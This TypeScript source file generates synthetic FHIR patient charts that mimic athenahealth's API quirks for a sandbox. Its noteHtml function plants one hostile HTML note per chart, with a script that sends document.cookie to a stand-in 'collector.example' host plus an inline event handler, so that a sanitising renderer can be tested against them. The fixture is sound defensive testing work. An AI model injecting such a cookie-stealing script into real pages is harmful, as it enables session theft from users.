/*
 * Builds one patient's chart from its profile and plan, deterministically
 * (one seeded random source per chart), in the shape athena's preview sends
 * (shared/athena-observed.md "FHIR R4, as recorded"): athena-style ids
 * `a-{practice}.{kind}-{n}`, the ah-practice and ah-chart-sharing-group
 * extensions on every clinical resource, and athena's mess kept on purpose
 * (repeated encounter diagnoses without clinicalStatus, weight in grams,
 * athena-local and text-only lab codes, bare units, text-only ranges,
 * entered-in-error results, HTML notes, unreleased documents).
 */

import type { ChartPlan, ChartProfile } from "./people";
import { chartSharingGroupReference, departments, type Provider, practiceReference, providers } from "./practice";
import { seededRandom } from "./random";
import { type BinaryContent, concept, type FhirResource, samplePdf, toBase64 } from "./resource";
import {
	ALLERGENS,
	BLOOD_PRESSURE_PARTS,
	DEVICES,
	DIAGNOSES,
	type Diagnosis,
	DOCUMENT_TYPES,
	DRAW_ROTATION,
	ENCOUNTER_TYPES,
	type EncounterType,
	EXTENSION,
	GOALS,
	LAB_PANELS,
	type LabTest,
	MEDICATIONS,
	OTHER_REPORTS,
	PROCEDURES,
	REACTIONS,
	SMOKING_STATUS,
	SYSTEM,
	VACCINES,
	VIRTUAL_ENCOUNTER_TYPES,
	VITALS,
	type VitalName,
} from "./vocabulary";

export interface Chart {
	/** Resources in the patient's compartment, by type, in search order. */
	byType: Map<string, FhirResource[]>;
	binaries: Map<string, BinaryContent>;
	/** Ids that searches count toward a page but leave out of it; direct reads still answer. */
	unlisted: Set<string>;
}

const DAY_MS = 86_400_000;
const POUND_GRAMS = 453.59237;

const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
const instant = (ms: number) => `${new Date(ms).toISOString().slice(0, 19)}Z`;

/** `total` split in proportion to `weights`, each part at least 1, adding up to exactly `total`. */
function proportional(weights: number[], total: number): number[] {
	if (total < weights.length) throw new RangeError("fewer items than parts");
	const sum = weights.reduce((a, b) => a + b, 0) || 1;
	const parts = weights.map((w) => Math.max(1, Math.floor((w * total) / sum)));
	let difference = total - parts.reduce((a, b) => a + b, 0);
	for (let i = 0; difference !== 0; i = (i + 1) % parts.length) {
		const part = parts[i] ?? 1;
		if (difference > 0) {
			parts[i] = part + 1;
			difference--;
		} else if (part > 1) {
			parts[i] = part - 1;
			difference++;
		}
	}
	return parts;
}

/** `total` split over `parts` as evenly as possible (earlier parts take the remainder). */
function spread(total: number, parts: number): number[] {
	const base = Math.floor(total / parts);
	return Array.from({ length: parts }, (_, i) => base + (i < total % parts ? 1 : 0));
}

/** `count` instants evenly over [from, to], each moved by up to ±`jitterDays`. */
function timeline(from: string, to: string, count: number, jitterDays: number, random: () => number): number[] {
	const start = Date.parse(`${from}T00:00:00Z`);
	const end = Date.parse(`${to}T00:00:00Z`);
	const step = count > 1 ? (end - start) / (count - 1) : 0;
	return Array.from({ length: count }, (_, i) => {
		const jitter = i === 0 || i === count - 1 ? 0 : Math.round((random() * 2 - 1) * jitterDays) * DAY_MS;
		const dayStart = Math.floor((start + i * step + jitter) / DAY_MS) * DAY_MS;
		// Office hours in US Eastern time, written in UTC.
		return dayStart + (13 + Math.floor(random() * 8)) * 3_600_000 + Math.floor(random() * 4) * 900_000;
	});
}

function encounterTypeConcept(type: EncounterType): Record<string, unknown> {
	if (type.system === "text") return { text: type.text };
	return concept([
		{ system: type.system === "cpt" ? SYSTEM.cpt : SYSTEM.snomed, code: type.code, display: type.display },
	]);
}

function diagnosisConcept(dx: Diagnosis): Record<string, unknown> {
	return concept(
		[
			{ system: SYSTEM.snomed, code: dx.snomed, display: dx.snomedDisplay },
			{ system: SYSTEM.icd10, code: dx.icd10, display: dx.icd10Display },
		],
		dx.icd10Display,
	);
}

const category = (system: string, code: string, display: string) => [concept([{ system, code, display }])];

export function buildChart(profile: ChartProfile, plan: ChartPlan): Chart {
	const random = seededRandom(profile.seed);
	const { practice } = profile;
	const byType = new Map<string, FhirResource[]>();
	const binaries = new Map<string, BinaryContent>();
	const unlisted = new Set<string>();
	const subject = { reference: `Patient/${profile.patient}` };
	const extension = [
		{ url: EXTENSION.practice, valueReference: { reference: practiceReference(practice) } },
		{ url: EXTENSION.chartSharingGroup, valueReference: { reference: chartSharingGroupReference(practice) } },
	];
	const staff = providers(practice);
	const provider = (): Provider => random.pick(staff);
	const department = departments(practice)[profile.department] ?? departments(practice)[0];
	if (!department) throw new Error(`practice ${practice} has no department`);

	// athena's ids: a kind and a number, per practice; each chart numbers from its own range.
	const counters = new Map<string, number>();
	const nextId = (kind: string) => {
		const base = [...kind].reduce((sum, c) => sum + c.charCodeAt(0), 0) * 31;
		const n = (counters.get(kind) ?? profile.idOffset + (base % 4000)) + random.int(1, 6);
		counters.set(kind, n);
		return `a-${practice}.${kind}-${n}`;
	};
	const clinical = (resourceType: string, kind: string, body: Record<string, unknown>): FhirResource => ({
		resourceType,
		id: nextId(kind),
		extension,
		...body,
	});
	const add = (resource: FhirResource) => {
		const list = byType.get(resource.resourceType) ?? [];
		list.push(resource);
		byType.set(resource.resourceType, list);
		return resource;
	};

	const birth = Date.parse(`${profile.birthDate}T00:00:00Z`);
	const ageAt = (ms: number) => (ms - birth) / (365.25 * DAY_MS);
	const from = Date.parse(`${profile.from}T00:00:00Z`);
	const span = Math.max(1, Date.parse(`${profile.to}T00:00:00Z`) - from);
	const child = ageAt(from) < 18;

	// --- the patient ---------------------------------------------------------
	const pcp = staff[profile.department % staff.length] ?? provider();
	add({
		resourceType: "Patient",
		id: profile.patient,
		extension,
		identifier: [
			{ system: SYSTEM.athenaPatient, value: profile.patient },
			...(profile.ssn ? [{ system: SYSTEM.ssn, value: profile.ssn }] : []),
		],
		active: true,
		name: profile.names,
		telecom: [
			{ system: "phone", value: `555-01${String(profile.seed % 100).padStart(2, "0")}`, use: "home" },
			...(profile.email ? [{ system: "email", value: profile.email }] : []),
		],
		gender: profile.gender,
		birthDate: profile.birthDate,
		address: [{ use: "home", line: ["1 Synthetic Way"], city: "Testville", state: "MA", postalCode: "02000" }],
		...(profile.guardian
			? {
					contact: [
						{
							relationship: [{ text: profile.guardian.relationship }],
							name: { family: profile.guardian.family, given: [profile.guardian.given] },
						},
					],
				}
			: {}),
		communication: [{ language: concept([{ system: "urn:ietf:bcp:47", code: "en", display: "English" }]) }],
		generalPractitioner: [pcp],
		managingOrganization: { reference: practiceReference(practice) },
	});

	// --- encounters, their diagnoses and vitals -------------------------------
	const totalVisits = plan.visits + plan.hiddenVisits.length;
	const visitTimes = timeline(profile.from, profile.to, totalVisits, 12, random.next);
	const hiddenAt = new Map(
		plan.hiddenVisits.map((status, i) => [
			Math.round(((i + 1) * totalVisits) / (plan.hiddenVisits.length + 1)),
			status,
		]),
	);
	const virtual = new Set(random.indexes(plan.visits, plan.virtualVisits));
	const dxPerVisit = spread(plan.encounterDiagnoses, plan.visits);
	const vitalsTaken: Array<{ at: number; encounter: string; vital: VitalName }> = [];
	const visits: Array<{ at: number; encounter: string }> = [];
	let listed = 0;
	visitTimes.forEach((at, i) => {
		const hidden = hiddenAt.get(i);
		const isVirtual = hidden === undefined && virtual.has(listed);
		const who = provider();
		const encounter = add(
			clinical("Encounter", "encounter", {
				status: hidden ?? "finished",
				class: isVirtual
					? { system: SYSTEM.actCode, code: "VR", display: "virtual" }
					: { system: SYSTEM.actCode, code: "AMB", display: "ambulatory" },
				type: [encounterTypeConcept(random.pick(isVirtual ? VIRTUAL_ENCOUNTER_TYPES : ENCOUNTER_TYPES))],
				subject,
				participant: [{ individual: who }],
				period: { start: instant(at), end: instant(at + 30 * 60_000) },
				location: [{ location: { reference: `Location/${department.id}`, display: department.name } }],
				serviceProvider: { reference: `Organization/${department.id}` },
			}),
		);
		if (hidden !== undefined) {
			unlisted.add(encounter.id);
			return;
		}
		const reference = `Encounter/${encounter.id}`;
		visits.push({ at, encounter: reference });
		// The same diagnoses come back visit after visit: one Condition per encounter each time.
		const [first, ...others] = plan.diagnoses;
		const count = dxPerVisit[listed] ?? 0;
		const chosen =
			first === undefined ? [] : [first, ...random.indexes(others.length, count - 1).map((j) => others[j])];
		const conditions = chosen.slice(0, count).map((name) =>
			add(
				clinical("Condition", "EncounterDx", {
					category: category(SYSTEM.conditionCategory, "encounter-diagnosis", "Encounter Diagnosis"),
					code: diagnosisConcept(DIAGNOSES[name as keyof typeof DIAGNOSES]),
					subject,
					encounter: { reference },
					recordedDate: day(at),
				}),
			),
		);
		encounter.diagnosis = conditions.map((c, rank) => ({
			condition: { reference: `Condition/${c.id}` },
			rank: rank + 1,
		}));
		if (!isVirtual) for (const vital of plan.vitals) vitalsTaken.push({ at, encounter: reference, vital });
		listed++;
	});

	for (const { diagnosis, status } of plan.problems) {
		const dx = DIAGNOSES[diagnosis];
		const onset = from - random.int(200, 2000) * DAY_MS;
		add(
			clinical("Condition", "problem", {
				// FHIR: an entered-in-error condition carries no clinicalStatus.
				...(status === "entered-in-error"
					? {}
					: {
							clinicalStatus: concept([
								{
									system: SYSTEM.conditionClinical,
									code: status,
									display: status === "active" ? "Active" : "Resolved",
								},
							]),
						}),
				verificationStatus: concept([
					status === "entered-in-error"
						? { system: SYSTEM.conditionVerification, code: "entered-in-error", display: "Entered in Error" }
						: { system: SYSTEM.conditionVerification, code: "confirmed", display: "Confirmed" },
				]),
				category: category(SYSTEM.conditionCategory, "problem-list-item", "Problem List Item"),
				code: diagnosisConcept(dx),
				subject,
				onsetDateTime: day(onset),
				...(status === "resolved" ? { abatementDateTime: day(onset + 40 * DAY_MS) } : {}),
				recordedDate: day(onset),
			}),
		);
	}
	for (const name of plan.healthConcerns) {
		add(
			clinical("Condition", "healthconcern", {
				clinicalStatus: concept([{ system: SYSTEM.conditionClinical, code: "active", display: "Active" }]),
				category: category(SYSTEM.usCoreConditionCategory, "health-concern", "Health Concern"),
				code: diagnosisConcept(DIAGNOSES[name]),
				subject,
				recordedDate: day(from + random.int(0, 300) * DAY_MS),
			}),
		);
	}

	// Observations from both sources, merged by date below.
	const observations: Array<{ at: number; resource: FhirResource }> = [];
	const absent = new Set(random.indexes(vitalsTaken.length, plan.absentVitals));
	vitalsTaken.forEach(({ at, encounter, vital }, i) => {
		const { code, display, unit } = VITALS[vital];
		const progress = (at - from) / span;
		const pounds =
			profile.weightLb[0] + (profile.weightLb[1] - profile.weightLb[0]) * progress + random.next() * 3 - 1.5;
		const lastAge = ageAt(from + span);
		const heightCm = child
			? Math.round(((profile.heightCm * (77 + 6 * ageAt(at))) / (77 + 6 * lastAge)) * 10) / 10
			: profile.heightCm;
		const grams = Math.round(pounds * POUND_GRAMS * 100) / 100;
		const quantity = (value: number, ucum = unit) => ({ value, unit: ucum, system: SYSTEM.ucum, code: ucum });
		const values: Record<VitalName, () => Record<string, unknown>> = {
			bloodPressure: () => ({
				component: [
					{
						code: concept([{ system: SYSTEM.loinc, ...BLOOD_PRESSURE_PARTS.systolic }]),
						valueQuantity: quantity(random.int(118, 148)),
					},
					{
						code: concept([{ system: SYSTEM.loinc, ...BLOOD_PRESSURE_PARTS.diastolic }]),
						valueQuantity: quantity(random.int(70, 92)),
					},
				],
			}),
			weight: () => ({ valueQuantity: quantity(grams) }),
			height: () => ({ valueQuantity: quantity(heightCm) }),
			bmi: () => ({ valueQuantity: quantity(Math.round((grams / 1000 / (heightCm / 100) ** 2) * 10) / 10) }),
			temperature: () => ({ valueQuantity: quantity(random.decimal(97.4, 99, 1)) }),
			heartRate: () => ({ valueQuantity: quantity(child ? random.int(80, 110) : random.int(58, 88)) }),
			oxygen: () => ({ valueQuantity: quantity(random.int(94, 99)) }),
		};
		observations.push({
			at,
			resource: clinical("Observation", "vitals", {
				status: "final",
				category: category(SYSTEM.observationCategory, "vital-signs", "Vital Signs"),
				code: concept([{ system: SYSTEM.loinc, code, display }]),
				subject,
				encounter: { reference: encounter },
				// athena records vitals by date only.
				effectiveDateTime: day(at),
				...(absent.has(i)
					? {
							dataAbsentReason: concept([
								{ system: SYSTEM.dataAbsentReason, code: "not-performed", display: "Not Performed" },
							]),
						}
					: values[vital]()),
			}),
		});
	});

	const smoking = plan.smokingStatus;
	visits.slice(-(smoking?.count ?? 0)).forEach(({ at, encounter }) => {
		if (!smoking) return;
		observations.push({
			at,
			resource: clinical("Observation", "socialhistory", {
				status: "final",
				category: category(SYSTEM.observationCategory, "social-history", "Social History"),
				code: concept([{ system: SYSTEM.loinc, ...SMOKING_STATUS }]),
				subject,
				encounter: { reference: encounter },
				effectiveDateTime: day(at),
				valueCodeableConcept: concept([{ system: SYSTEM.snomed, code: smoking.code, display: smoking.display }]),
			}),
		});
	});

	// --- labs: draws of panels, each with its report ---------------------------
	const panelsOf = (i: number) => DRAW_ROTATION[i % DRAW_ROTATION.length] ?? [];
	const testsOf = (i: number) => panelsOf(i).flatMap((name) => LAB_PANELS[name]?.tests ?? []);
	const sizes = proportional(
		Array.from({ length: plan.labReports }, (_, i) => testsOf(i).length),
		plan.labResults,
	);
	const drawTimes = timeline(profile.from, profile.to, plan.labReports, 20, random.next).map((t) => t - 5 * 3_600_000);
	const labs: Array<{ test: LabTest; resource: FhirResource }> = [];
	sizes.forEach((size, draw) => {
		const at = drawTimes[draw] ?? from;
		const tests: LabTest[] = [];
		// A draw bigger than its own panels runs on into the next ones in the rotation.
		for (let next = draw; tests.length < size; next++) tests.push(...testsOf(next));
		const results = tests.slice(0, size).map((test) => {
			const resource = clinical("Observation", "resultamb", {
				status: "final",
				category: category(SYSTEM.observationCategory, "laboratory", "Laboratory"),
				code: test.code
					? concept([{ system: SYSTEM.loinc, code: test.code, display: test.display }])
					: { text: test.display },
				subject,
				effectiveDateTime: instant(at),
				issued: instant(at + 26 * 3_600_000),
				...labValue(test, random),
			});
			labs.push({ test, resource });
			observations.push({ at, resource });
			return resource;
		});
		const panel: { code?: string; display: string } = LAB_PANELS[panelsOf(draw)[0] ?? ""] ?? { display: "LAB RESULT" };
		const summary = results.map((r) => `${conceptText(r.code)}: ${valueText(r)}`).join("\n");
		add(
			clinical("DiagnosticReport", "labresult", {
				status: "final",
				category: category(SYSTEM.diagnosticService, "LAB", "Laboratory"),
				code: panel.code
					? concept([{ system: SYSTEM.loinc, code: panel.code, display: panel.display }])
					: { text: panel.display },
				subject,
				effectiveDateTime: instant(at),
				issued: instant(at + 26 * 3_600_000),
				performer: [provider()],
				result: results.map((r) => ({ reference: `Observation/${r.id}` })),
				presentedForm: [{ contentType: "text/plain", data: toBase64(`${panel.display}\n${summary}\n`) }],
			}),
		);
	});
	messUpLabs(labs, plan, random);

	const awaiting = plan.awaitingResults;
	const pendingTests = testsOf(0);
	const awaitingResources = Array.from({ length: awaiting?.count ?? 0 }, (_, i) => {
		const test = pendingTests[i % pendingTests.length] ?? { display: "LAB RESULT" };
		const resource = clinical("Observation", "resultamb", {
			status: "registered",
			category: category(SYSTEM.observationCategory, "laboratory", "Laboratory"),
			code: test.code
				? concept([{ system: SYSTEM.loinc, code: test.code, display: test.display }])
				: { text: test.display },
			subject,
			effectiveDateTime: instant(Date.parse(`${profile.to}T12:00:00Z`)),
		});
		unlisted.add(resource.id);
		return resource;
	});
	const ordered = observations.sort((a, b) => a.at - b.at).map((o) => o.resource);
	ordered.splice(awaiting?.at ?? ordered.length, 0, ...awaitingResources);
	byType.set("Observation", ordered);

	// --- other reports -----------------------------------------------------------
	timeline(profile.from, profile.to, plan.otherReports, 30, random.next).forEach((at, i) => {
		const report = OTHER_REPORTS[i % OTHER_REPORTS.length];
		if (!report) return;
		add(
			clinical("DiagnosticReport", report.category.display === "Radiology" ? "imagingresult" : "clinicalresult", {
				status: "final",
				category: [concept([{ system: SYSTEM.loinc, ...report.category }])],
				code: concept([{ system: SYSTEM.loinc, code: report.code, display: report.display }]),
				subject,
				effectiveDateTime: instant(at),
				issued: instant(at + 2 * DAY_MS),
				performer: [provider()],
				presentedForm: [{ contentType: "text/plain", data: toBase64(`${report.display}\n${report.text}\n`) }],
			}),
		);
	});

	// --- documents ---------------------------------------------------------------
	const documentCount = plan.documents.html + plan.documents.unreleased;
	const released = new Set(random.indexes(documentCount, plan.documents.html));
	const hostile = Math.min(...released);
	const given = profile.names.at(-1)?.given[0] ?? "";
	timeline(profile.from, profile.to, documentCount, 15, random.next).forEach((at, i) => {
		const type = DOCUMENT_TYPES[i % DOCUMENT_TYPES.length] ?? DOCUMENT_TYPES[0];
		const visit = visits.find((v) => v.at >= at) ?? visits.at(-1);
		const author = provider();
		const attachment = released.has(i)
			? {
					contentType: "text/html",
					data: toBase64(noteHtml(type.display, day(at), given, author.display, i === hostile)),
				}
			: {
					// Not released to the portal: athena sends no data, only why.
					contentType: "application/octet-stream",
					_data: { extension: [{ url: EXTENSION.dataAbsentReason, valueCode: "masked" }] },
				};
		add(
			clinical("DocumentReference", "clinicaldocument", {
				status: "current",
				type: concept([{ system: SYSTEM.loinc, ...type }]),
				category: category(SYSTEM.documentCategory, "clinical-note", "Clinical Note"),
				subject,
				date: instant(at),
				author: [author],
				content: [{ attachment }],
				...(visit ? { context: { encounter: [{ reference: visit.encounter }] } } : {}),
			}),
		);
	});

	// --- allergies, immunizations, and the rest ----------------------------------
	plan.allergies.forEach((index, i) => {
		const allergen = ALLERGENS[index % ALLERGENS.length] ?? ALLERGENS[0];
		const reaction = REACTIONS[(index + i) % REACTIONS.length] ?? REACTIONS[0];
		// One reaction per chart is coded without a display or text: a page must still say something.
		const bare = i === Math.min(1, plan.allergies.length - 1);
		add(
			clinical("AllergyIntolerance", "allergy", {
				clinicalStatus: concept([{ system: SYSTEM.allergyClinical, code: "active", display: "Active" }]),
				verificationStatus: concept([{ system: SYSTEM.allergyVerification, code: "confirmed", display: "Confirmed" }]),
				category: [allergen.category],
				code: concept([
					{
						system: allergen.system === "rxnorm" ? SYSTEM.rxnorm : SYSTEM.snomed,
						code: allergen.code,
						display: allergen.display,
					},
				]),
				patient: subject,
				recordedDate: day(from + random.int(0, 400) * DAY_MS),
				...(i === 3
					? {}
					: {
							reaction: [
								{
									manifestation: [
										bare
											? { coding: [{ system: SYSTEM.snomed, code: REACTIONS[3].code }] }
											: concept([{ system: SYSTEM.snomed, ...reaction }]),
									],
								},
							],
						}),
			}),
		);
	});
	const vaccineStart = child ? birth + 60 * DAY_MS : from;
	timeline(day(vaccineStart), profile.to, plan.vaccines.length, 10, random.next).forEach((at, i) => {
		const vaccine = VACCINES[plan.vaccines[i] ?? "flu"];
		add(
			clinical("Immunization", "immunization", {
				status: "completed",
				vaccineCode: concept([{ system: SYSTEM.cvx, ...vaccine }]),
				patient: subject,
				occurrenceDateTime: day(at),
				primarySource: false,
			}),
		);
	});
	timeline(profile.from, profile.to, plan.procedures, 40, random.next).forEach((at, i) => {
		const procedure = PROCEDURES[i % PROCEDURES.length] ?? PROCEDURES[0];
		add(
			clinical("Procedure", "surgicalhistory", {
				status: "completed",
				code:
					procedure.code === undefined
						? { text: procedure.display }
						: concept([
								{
									system: procedure.system === "cpt" ? SYSTEM.cpt : SYSTEM.snomed,
									code: procedure.code,
									display: procedure.display,
								},
							]),
				subject,
				performedDateTime: day(at),
			}),
		);
	});
	for (let i = 0; i < plan.goals; i++) {
		add(
			clinical("Goal", "goal", {
				lifecycleStatus: i % 4 === 3 ? "completed" : "active",
				description: { text: GOALS[i % GOALS.length] },
				subject,
				startDate: day(from + i * 60 * DAY_MS),
			}),
		);
	}
	for (let i = 0; i < plan.devices; i++) {
		const device = DEVICES[i % DEVICES.length] ?? DEVICES[0];
		const identifier = String(random.int(10_000_000, 99_999_999)).padStart(14, "0");
		add(
			clinical("Device", "implantabledevice", {
				status: "active",
				type:
					device.code === undefined
						? { text: device.display }
						: concept([{ system: SYSTEM.snomed, code: device.code, display: device.display }]),
				patient: subject,
				udiCarrier: [{ deviceIdentifier: identifier, carrierHRF: `(01)${identifier}(17)301231(10)SBX${i + 1}` }],
			}),
		);
	}
	plan.medications.forEach((index, i) => {
		const medication = MEDICATIONS[index % MEDICATIONS.length] ?? MEDICATIONS[0];
		const last = i === plan.medications.length - 1 && plan.medications.length > 1;
		add(
			clinical("MedicationRequest", "medication", {
				status: i === 0 && plan.medications.length > 2 ? "completed" : "active",
				// athena answers intent=order and intent=plan; the last one is a plan.
				intent: last ? "plan" : "order",
				medicationCodeableConcept:
					medication.code === undefined
						? { text: medication.display }
						: concept([{ system: SYSTEM.rxnorm, code: medication.code, display: medication.display }]),
				subject,
				authoredOn: day(from + i * 90 * DAY_MS),
				requester: pcp,
				dosageInstruction: [{ text: medication.sig }],
			}),
		);
	});
	add(
		clinical("CarePlan", "careplan", {
			status: "active",
			intent: "plan",
			category: [
				concept(
					[{ system: "http://hl7.org/fhir/us/core/CodeSystem/careplan-category", code: "assess-plan" }],
					"Assessment and Plan",
				),
			],
			subject,
			text: {
				status: "generated",
				div: '<div xmlns="http://www.w3.org/1999/xhtml">Continue current plan; recheck labs in 6 months.</div>',
			},
		}),
	);
	add(
		clinical("CareTeam", "careteam", {
			status: "active",
			subject,
			participant: staff.map((member) => ({ member })),
		}),
	);
	add(
		clinical("Coverage", "insurance", {
			status: "active",
			beneficiary: subject,
			subscriberId: `SBX${profile.seed}`,
			payor: [{ display: "Synthetic Health Plan" }],
		}),
	);
	add(
		clinical("ServiceRequest", "order", {
			status: "active",
			intent: "order",
			code: concept([{ system: SYSTEM.loinc, code: "4548-4", display: "Hemoglobin A1c" }]),
			subject,
			authoredOn: profile.to,
		}),
	);
	// A Binary no document points at (athena's notes arrive inline); kept for Binary reads.
	binaries.set(nextId("Binary"), {
		contentType: "application/pdf",
		bytes: samplePdf("Sandbox lab summary (synthetic)"),
	});
	return { byType, binaries, unlisted };
}

/** A lab result's value as athena sends it: a bare-unit quantity (one in five flagged High in text) or a string. */
export function labValue(test: LabTest, random: ReturnType<typeof seededRandom>): Record<string, unknown> {
	const range = test.range ? { referenceRange: [{ text: test.range }] } : {};
	if (test.values) return { valueString: random.pick(test.values), ...range };
	const low = test.low ?? 0;
	const high = test.high ?? 1;
	const width = high - low;
	// One result in five falls outside the range, flagged in text as athena does.
	const out = random.next() < 0.2;
	const value = out
		? random.decimal(high, high + width * 0.4, test.decimals ?? 0)
		: random.decimal(low, high, test.decimals ?? 0);
	return {
		valueQuantity: { value, unit: test.unit },
		...range,
		...(out ? { interpretation: [{ text: "High" }] } : {}),
	};
}

/** Statuses, text-only codes and string values, in exactly the plan's numbers. */
function messUpLabs(
	labs: Array<{ test: LabTest; resource: FhirResource }>,
	plan: ChartPlan,
	random: ReturnType<typeof seededRandom>,
): void {
	const { enteredInError, unknown, cancelled } = plan.labStatuses;
	const statuses = random.shuffled([
		...Array<string>(enteredInError).fill("entered-in-error"),
		...Array<string>(unknown).fill("unknown"),
		...Array<string>(cancelled).fill("cancelled"),
	]);
	random.indexes(labs.length, statuses.length).forEach((labIndex, i) => {
		const lab = labs[labIndex];
		const status = statuses[i];
		if (!lab || !status) return;
		lab.resource.status = status;
		if (status === "cancelled") {
			delete lab.resource.valueQuantity;
			delete lab.resource.valueString;
			delete lab.resource.interpretation;
		}
	});
	const coded = labs.filter((l) => l.test.code !== undefined);
	const textOnlyNow = labs.length - coded.length;
	for (const index of random.indexes(coded.length, Math.max(0, plan.textOnlyLabs - textOnlyNow))) {
		const lab = coded[index];
		if (lab) lab.resource.code = { text: lab.test.display };
	}
	const stringsNow = labs.filter((l) => typeof l.resource.valueString === "string").length;
	const numeric = labs.filter((l) => l.resource.valueQuantity !== undefined);
	for (const index of random.indexes(numeric.length, Math.max(0, plan.stringLabs - stringsNow))) {
		const lab = numeric[index];
		if (!lab) continue;
		// athena sends some numeric results as strings, value and unit run together.
		const { value, unit } = lab.resource.valueQuantity as { value: number; unit?: string };
		lab.resource.valueString = unit ? `${value} ${unit}` : String(value);
		delete lab.resource.valueQuantity;
	}
}

function conceptText(value: unknown): string {
	const c = value as { text?: string; coding?: Array<{ display?: string }> } | undefined;
	return c?.text ?? c?.coding?.[0]?.display ?? "Result";
}

function valueText(resource: FhirResource): string {
	const quantity = resource.valueQuantity as { value: number; unit?: string } | undefined;
	if (quantity) return `${quantity.value}${quantity.unit ? ` ${quantity.unit}` : ""}`;
	return typeof resource.valueString === "string" ? resource.valueString : "pending";
}

/**
 * A visit note as athena's portal HTML. One note per chart carries what a
 * safe renderer must neutralise: a script, a remote image and an inline
 * event handler.
 */
function noteHtml(title: string, date: string, given: string, author: string, hostile: boolean): string {
	const extras = hostile
		? `<script>document.location='https://collector.example/steal?c='+document.cookie</script>
<p onmouseover="alert('sandbox')">Hover text from the note template.</p>
<img src="https://images.example.net/clinic-logo.png" alt="Clinic logo" width="120">`
		: "";
	return `<html><head><meta charset="utf-8"><title>${title}</title></head><body>
<h1>${title}</h1>
<p><b>Date:</b> ${date} &nbsp; <b>Provider:</b> ${author}</p>
<h2>Subjective</h2><p>${given} returns for follow-up. Feels well; no new complaints.</p>
<h2>Assessment and plan</h2><ul><li>Continue current medications.</li><li>Recheck labs before the next visit.</li></ul>
${extras}
<p><i>Synthetic sandbox note; not a real person.</i></p>
</body></html>`;
}
